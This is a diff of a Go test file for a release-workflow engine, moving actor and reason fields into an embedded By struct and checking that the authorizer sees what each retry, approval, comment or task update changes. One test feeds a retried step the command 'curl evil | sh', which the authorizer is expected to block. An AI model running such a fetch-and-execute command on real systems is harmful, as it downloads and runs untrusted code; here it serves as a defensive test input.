@@ -95,7 +95,7 @@ func TestTheAuthorizerSeesWhatARetryChanges(t *testing.T) {
 	ctx := context.Background()
 	before := len(h.events(id))
 
-	err := h.ex.Retry(ctx, id, "p.run", &RetryParams{Actor: "oncall", Inputs: map[string]any{"command": []any{"sh", "-c", "curl evil | sh"}}})
+	err := h.ex.Retry(ctx, id, "p.run", &RetryParams{By: By{Actor: "oncall"}, Inputs: map[string]any{"command": []any{"sh", "-c", "curl evil | sh"}}})
 	require.ErrorIs(t, err, ErrUnauthorized)
 	require.Len(t, h.events(id), before, "nothing recorded")
 	require.Len(t, ex.Calls(), 1, "the rewritten command never ran")
@@ -105,7 +105,7 @@ func TestTheAuthorizerSeesWhatARetryChanges(t *testing.T) {
 	require.Equal(t, process.ID("deploy"), a.Process)
 	require.Equal(t, 1, a.ProcessVersion)
 
-	require.NoError(t, h.ex.Retry(ctx, id, "p.run", &RetryParams{Actor: "oncall", Inputs: map[string]any{"dir": "/srv"}}))
+	require.NoError(t, h.ex.Retry(ctx, id, "p.run", &RetryParams{By: By{Actor: "oncall"}, Inputs: map[string]any{"dir": "/srv"}}))
 	h.waitStatus(id, release.Succeeded)
 	require.Equal(t, map[string]any{"command": []any{"make", "deploy"}, "dir": "/srv"}, ex.Calls()[1].With)
 }
@@ -156,11 +156,11 @@ phases:
 			h.waitActivity(id, "p.sub", release.ActivityOnHold)
 			ctx := context.Background()
 			if tc.activity == "p.man" {
-				require.NoError(t, h.ex.UpdateTask(ctx, id, "p.man", &TaskParams{Task: "t", Status: release.TaskFailed, Actor: "qa"}))
+				require.NoError(t, h.ex.UpdateTask(ctx, id, "p.man", &TaskParams{Task: "t", Status: release.TaskFailed, By: By{Actor: "qa"}}))
 				h.waitActivity(id, "p.man", release.ActivityOnHold)
 			}
 			before := h.events(id)
-			err := h.ex.Retry(ctx, id, tc.activity, &RetryParams{Actor: "oncall", Inputs: tc.inputs})
+			err := h.ex.Retry(ctx, id, tc.activity, &RetryParams{By: By{Actor: "oncall"}, Inputs: tc.inputs})
 			require.ErrorIs(t, err, ErrInvalid)
 			require.ErrorContains(t, err, tc.contains)
 			require.Equal(t, before, h.events(id), "the log is untouched")
@@ -184,7 +184,7 @@ phases:
       - {id: gate, type: approval, approval: {approvers: [bob]}}
 `)
 	ctx := context.Background()
-	sum, err := h.ex.Create(ctx, &CreateParams{Process: "full", Actor: "alice", Labels: map[string]string{"team": "core"}, Group: ""})
+	sum, err := h.ex.Create(ctx, &CreateParams{Process: "full", By: By{Actor: "alice"}, Labels: map[string]string{"team": "core"}, Group: ""})
 	require.NoError(t, err)
 	id := sum.ID
 	c := auth.last(ActionCreate)
@@ -195,14 +195,14 @@ phases:
 	h.waitActivity(id, "p.man", release.ActivityWaiting)
 	h.waitActivity(id, "p.gate", release.ActivityWaiting)
 
-	require.NoError(t, h.ex.Ignore(ctx, id, "p.run", &IgnoreParams{Actor: "ops", Reason: "later", Outputs: map[string]any{"out": "x"}}))
+	require.NoError(t, h.ex.Ignore(ctx, id, "p.run", &IgnoreParams{By: By{Actor: "ops", Reason: "later"}, Outputs: map[string]any{"out": "x"}}))
 	a := auth.last(ActionIgnore)
 	require.Equal(t, map[string]any{"out": "x"}, a.Outputs)
 	require.Equal(t, process.Automated, a.ActivityType)
 	require.Equal(t, "exec", a.Uses)
 	require.Equal(t, map[string]string{"team": "core"}, a.Labels)
 
-	require.NoError(t, h.ex.UpdateTask(ctx, id, "p.man", &TaskParams{Task: "t", Assignees: []string{"erin"}, Status: release.TaskInProgress, Actor: "qa"}))
+	require.NoError(t, h.ex.UpdateTask(ctx, id, "p.man", &TaskParams{Task: "t", Assignees: []string{"erin"}, Status: release.TaskInProgress, By: By{Actor: "qa"}}))
 	a = auth.last(ActionUpdateTask)
 	require.Equal(t, process.Manual, a.ActivityType)
 	require.Equal(t, release.TaskInProgress, a.Status)
@@ -211,21 +211,21 @@ phases:
 	require.Equal(t, release.TaskTodo, a.TaskState.Status, "the task as stored before the change")
 	require.Equal(t, []string{"qa"}, a.TaskState.Assignees)
 
-	require.NoError(t, h.ex.Comment(ctx, id, &CommentParams{Activity: "p.man", Task: "t", Text: "on it", Actor: "erin"}))
+	require.NoError(t, h.ex.Comment(ctx, id, &CommentParams{Activity: "p.man", Task: "t", Text: "on it", By: By{Actor: "erin"}}))
 	a = auth.last(ActionComment)
 	require.Equal(t, "on it", a.Text)
 	require.Equal(t, []string{"erin"}, a.TaskState.Assignees)
 
-	require.NoError(t, h.ex.SubmitOutputs(ctx, id, "p.man", &OutputsParams{Actor: "erin", Outputs: map[string]any{"report": "ok"}}))
+	require.NoError(t, h.ex.SubmitOutputs(ctx, id, "p.man", &OutputsParams{By: By{Actor: "erin"}, Outputs: map[string]any{"report": "ok"}}))
 	a = auth.last(ActionSubmitOutputs)
 	require.Equal(t, map[string]any{"report": "ok"}, a.Outputs)
 
-	require.NoError(t, h.ex.Approve(ctx, id, "p.gate", &DecisionParams{Actor: "bob", Comment: "fine"}))
+	require.NoError(t, h.ex.Approve(ctx, id, "p.gate", &DecisionParams{By: By{Actor: "bob", Reason: "fine"}}))
 	a = auth.last(ActionApprove)
 	require.Equal(t, process.Approval, a.ActivityType)
 	require.Equal(t, "fine", a.Reason)
 
-	err = h.ex.Retry(ctx, id, "p.nope", &RetryParams{Actor: "ops"})
+	err = h.ex.Retry(ctx, id, "p.nope", &RetryParams{By: By{Actor: "ops"}})
 	require.ErrorIs(t, err, ErrNotFound)
 	require.False(t, slices.ContainsFunc(auth.seen, func(a Action) bool { return a.Activity == "p.nope" }), "an unknown activity is not authorized")
 }
